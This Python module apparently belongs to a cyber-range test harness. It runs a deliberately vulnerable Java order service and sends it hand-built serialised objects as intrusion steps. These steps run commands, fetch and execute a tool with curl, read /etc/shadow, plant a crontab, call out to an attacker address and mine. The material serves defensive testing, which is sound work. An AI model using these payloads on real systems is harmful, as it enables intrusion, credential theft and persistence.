"""A small web service in Java that deserialises what it is sent."""

import contextlib
import http.client
import random
import signal
import struct
import subprocess
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

from service_clients import Client

from baseline.demo.attacker import ADDRESS
from baseline.demo.service import Server, Step
from ranges.intruder import Intruder
from ranges.target import Target, require, require_success

_SOURCE = Path(__file__).parents[1] / "programs" / "Orders.java"
_OPTIONS = ("-Xmx96m", "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1")


class Java(Server):
    """A JVM such as a container with one core and little memory has."""

    name = "java"
    packages = "default-jdk-headless curl"
    ended_by = signal.SIGTERM

    def prepare(self) -> None:
        """Compile it."""
        subprocess.run(["javac", "-d", self.folder, _SOURCE], check=True)

    def launch(self) -> None:
        """Start it and return when it answers."""
        program = [*_OPTIONS, "-cp", str(self.folder), "Orders", str(self.port), str(self.folder)]
        self.process = self.cgroup.start(["java", *program])
        self.await_port()

    def ask(self, method: str, path: str, body: bytes | None = None, address: str = "") -> bytes:
        """Send one request over a connection of its own; returns the answer."""
        connection = http.client.HTTPConnection(
            "127.0.0.1", self.port, timeout=15, source_address=(address or "127.0.0.1", 0)
        )
        with contextlib.closing(connection):
            connection.request(method, path, body)
            return connection.getresponse().read()


class JavaClient(Client):
    """A shop that hands in orders."""

    usual_rate = 40
    failures = (OSError, http.client.HTTPException)

    def __init__(self, service: Any, choose: random.Random) -> None:
        super().__init__(service, choose)
        self._connection = http.client.HTTPConnection(
            "127.0.0.1", service.port, timeout=15, source_address=(self.address, 0)
        )

    def usual(self, writing: float) -> bool:
        """Hand in an order or ask for the number of them."""
        if self.choose.random() < writing:
            order = f"order {self.choose.randrange(10**9)} {'x' * self.choose.randrange(200)}"
            self._ask("POST", "/orders", order.encode())
        else:
            self._ask("GET", "/orders")
        return self.choose.random() < 0.97

    def unusual(self) -> Sequence[Callable[[], object]]:
        """Reports, imports of many orders, mistakes."""
        lines = "\n".join(f"order {self.choose.randrange(10**9)}" for _ in range(200))
        return (
            lambda: self._ask("GET", "/report"),
            lambda: self._ask("POST", "/import", serialised("Orders$Batch", {"lines": lines})),
            lambda: self._ask("GET", "/missing"),
            lambda: self._ask("POST", "/import", b"nonsense"),
            lambda: self._ask("POST", "/orders", b"x" * 100_000),
        )

    def close(self) -> None:
        """Hang up."""
        self._connection.close()

    def _ask(self, method: str, path: str, body: bytes | None = None) -> None:
        self._connection.request(method, path, body)
        self._connection.getresponse().read()


class JavaTarget(Target[Java]):
    """Its intruders send objects."""

    client = JavaClient
    needs = ("java", "javac", "jcmd", "curl")
    techniques = ("memfd", "scan", "secrets", "exfiltrate", "cron")

    def operations(self) -> Sequence[Step]:
        """A health check from inside, a backup of the journal, a restart."""
        inside = self.run_inside
        health = f"curl -s -o health http://127.0.0.1:{self.server.port}/orders"
        here = {"cwd": self.server.folder}
        return (
            Step("health check", lambda: inside(["/bin/sh", "-c", health], **here)),
            Step(
                "backup", lambda: inside(["/bin/sh", "-c", "gzip -c journal > backup.gz"], **here)
            ),
            Step("collection of garbage", self._collect),
            Step("restart", self.restart),
        )

    def _collect(self) -> None:
        command = ["jcmd", str(self.server.process.pid), "GC.run"]
        require_success(subprocess.Popen(command, stdout=subprocess.DEVNULL), "jcmd")

    def ways_in(self, intruder: Intruder) -> Sequence[Step]:
        """What the deserialised object does when it is read."""
        tool = self.scratch() / "tool"
        fetch = f"curl -s -o {tool} {intruder.tool} && chmod +x {tool} && {tool} x && id"
        return (
            Step("a deserialised object runs a command", lambda: self._send("run", "id", b"uid=")),
            Step(
                "a deserialised object downloads a program and runs it",
                lambda: self._send("run", fetch, b"uid="),
            ),
            Step(
                "a deserialised object reads secrets inside the JVM",
                lambda: self._send("read", "/etc/shadow", b"root:"),
            ),
            Step(
                "a deserialised object leaves a crontab from the JVM",
                lambda: self._send("write", str(self.scratch() / "updates"), b"updates"),
            ),
            Step(
                "a deserialised object calls another machine from the JVM",
                lambda: self._send("call", f"{ADDRESS} {intruder.listener}", b"id"),
            ),
            Step(
                "a deserialised object computes inside the JVM",
                lambda: self._send("mine", "3000", b"mined"),
            ),
        )

    def _send(self, order: str, argument: str, sign: bytes) -> None:
        job = serialised("Orders$Job", {"argument": argument, "order": order})
        answer = self.server.ask("POST", "/import", job)
        # What it says of an error may hold the sign, too.
        require(answer if not answer.startswith(b"refused") else b"", sign, "Deserialisation")


def serialised(name: str, fields: Mapping[str, str]) -> bytes:
    """An object whose fields are strings, as Java's serialization protocol (version 5) has it.

    Args:
        name: of its class, whose serialVersionUID is 1.
        fields: in alphabetical order.
    """
    kinds = b"".join(
        b"L" + _text(field) + b"\x74" + _text("Ljava/lang/String;") for field in fields
    )
    head = b"\xac\xed\x00\x05\x73\x72" + _text(name) + struct.pack("!qBH", 1, 2, len(fields))
    values = b"".join(b"\x74" + _text(value) for value in fields.values())
    return head + kinds + b"\x78\x70" + values


def _text(text: str) -> bytes:
    return struct.pack("!H", len(text)) + text.encode()
